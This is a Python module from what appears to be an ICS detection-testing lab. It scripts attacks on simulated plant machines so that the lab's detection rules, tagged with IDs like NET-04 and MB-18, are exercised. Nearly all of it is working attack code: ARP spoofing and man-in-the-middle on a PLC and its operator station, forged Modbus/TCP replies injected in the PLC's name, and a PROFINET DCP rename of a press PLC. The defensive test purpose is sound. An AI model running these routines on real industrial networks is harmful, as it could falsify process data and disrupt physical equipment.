"""Below IP: who claims which address, who sits in between, who speaks in another's place. Frames are made by hand.

Benign twin: the plant's own ARP in the lead-in of this very capture.
"""

from __future__ import annotations

import contextlib
import socket
import struct
import time
from collections.abc import Callable

from ..plan import machine
from ..plant import modbus_client
from ..shell import run
from .base import Act, Attack, Text, text
from .beside import CARD, arp, card, own_mac

BROADCAST = b"\xff" * 6
OTHER_CARD = "b8:27:eb:c8:77:77"


def _other_card() -> None:
    client = modbus_client.connect("plc-water")
    client.close()
    run("ip", "link", "set", CARD, "address", OTHER_CARD)
    time.sleep(0.5)
    with contextlib.suppress(OSError):
        modbus_client.connect("plc-water").close()
    run("ip", "link", "set", CARD, "address", machine("intruder").mac)


def _claim() -> None:
    """Says to be the historian, and asks for it, so that the historian says so, too."""
    own, ip = own_mac("intruder"), machine("historian").ip
    with card() as raw:
        for _ in range(6):
            raw.send(arp(1, (own, ip), (bytes(6), ip), BROADCAST))
            time.sleep(0.4)
            raw.send(arp(1, (own, machine("intruder").ip), (bytes(6), ip), BROADCAST))
            time.sleep(0.4)


def _between() -> None:
    """Between hmi-water and plc-water, and passes on what comes."""
    for key, value in (("all/send_redirects", 0), (f"{CARD}/send_redirects", 0), ("../ip_forward", 1)):
        with open(f"/proc/sys/net/ipv4/conf/{key}", "w") as handle:
            handle.write(str(value))
    own, one, other = own_mac("intruder"), machine("hmi-water"), machine("plc-water")
    pairs = ((one, other), (other, one))
    with card() as raw:
        for _ in range(80):
            for victim, claimed in pairs:
                to = own_mac(victim.name)
                raw.send(arp(2, (own, claimed.ip), (to, victim.ip), to))
            time.sleep(0.15)
        for victim, claimed in pairs:
            to = own_mac(victim.name)
            raw.send(arp(2, (own_mac(claimed.name), claimed.ip), (to, victim.ip), to))


def _inject() -> None:
    """Reads along on the flooding switch, then answers hmi-water in plc-water's name with what nobody asked for."""
    server, client = machine("plc-water"), machine("hmi-water")
    answer = struct.pack(">HHHBBB", 0x7777, 0, 7, 1, 3, 4) + struct.pack(">HH", 550, 120)
    with card() as raw:
        raw.settimeout(10)
        end = time.monotonic() + 15
        while time.monotonic() < end:
            frame = raw.recv(2048)
            if frame[12:14] != b"\x08\x00" or frame[23] != 6 or frame[26:34] != socket.inet_aton(server.ip) + socket.inet_aton(client.ip):
                continue
            ip, tcp = frame[14:34], frame[34:]
            length = struct.unpack(">H", ip[2:4])[0] - 20 - (tcp[12] >> 4) * 4
            if struct.unpack(">H", tcp[:2])[0] != 502 or length <= 8:
                continue
            raw.send(_forged(frame[:12], ip, tcp, length, answer))
            return
    raise RuntimeError("nothing to answer to was heard")


def _forged(macs: bytes, ip: bytes, tcp: bytes, length: int, answer: bytes) -> bytes:
    sequence = struct.unpack(">I", tcp[4:8])[0] + length
    head = tcp[:4] + struct.pack(">I", sequence & 0xFFFFFFFF) + tcp[8:12] + b"\x50\x18" + tcp[14:16] + b"\0\0\0\0"
    head = head[:16] + struct.pack(">H", _sum(ip[12:20] + struct.pack(">HH", 6, 20 + len(answer)) + head + answer)) + head[18:]
    header = ip[:2] + struct.pack(">HHH", 40 + len(answer), 0x7777, 0x4000) + ip[8:10] + b"\0\0" + ip[12:]
    header = header[:10] + struct.pack(">H", _sum(header)) + header[12:]
    return macs + b"\x08\x00" + header + head + answer


def _sum(data: bytes) -> int:
    data += bytes(len(data) % 2)
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def _rename() -> None:
    """PROFINET DCP: the press's PLC gets another name, as a commissioning tool gives it."""
    name = b"not-the-press"
    block = struct.pack(">BBHH", 2, 2, len(name) + 2, 1) + name + bytes(len(name) % 2)
    body = b"\xfe\xfd\x04\x00" + struct.pack(">IHH", 0x47110815, 0, len(block)) + block
    with card() as raw:
        for _ in range(2):
            raw.send(own_mac("plc-press") + own_mac("intruder") + b"\x88\x92" + body.ljust(46, b"\0"))
            time.sleep(0.3)


def _act(detection: str, name: str, about: str, what: Text, frames: str, do: Callable[[], None], actor: str = "intruder") -> Act:
    return Act(name, actor, None, what, "scripted", frames, do, detection=detection, about=about)


ATTACK = Attack(
    "link",
    text("冒用地址、中间人和注入", "Claimed addresses, somebody in between, injected answers"),
    (
        _act("NET-27", "rename", "plc-press", text("用 PROFINET DCP 给压机 PLC 改名", "The press's PLC gets another name by PROFINET DCP"), "eth.type == 0x8892", _rename),
        Act("other-card", "intruder", None, text("同一 IP 换了网卡", "An address answers from another network card"), "scripted", "arp", _other_card, detection="NET-02", seen_card=OTHER_CARD, about="intruder"),
        _act("NET-03", "claim", "historian", text("冒用历史数据服务器的地址", "The historian's address is claimed by another machine"), "arp", _claim),
        Act("inject", "intruder", None, text("冒充 PLC 注入一条无人请求的应答", "An answer that nobody asked for is injected in the PLC's name"), "scripted", "tcp.port == 502", _inject, detection="MB-18", seen_as=machine("hmi-water").ip, about="plc-water"),
        _act("NET-04", "spoof", "plc-water", text("ARP 欺骗水箱 PLC 和操作员站", "The tank's PLC and its operator station are deceived by ARP"), "arp || tcp.port == 502", _between),
    ),
    also=("NET-01", "NET-02", "NET-03", "NET-04", "NET-05", "NET-06", "NET-17", "NET-18", "MB-17", "MB-18", "MB-02", "SEN-02", "SEN-03"),
)
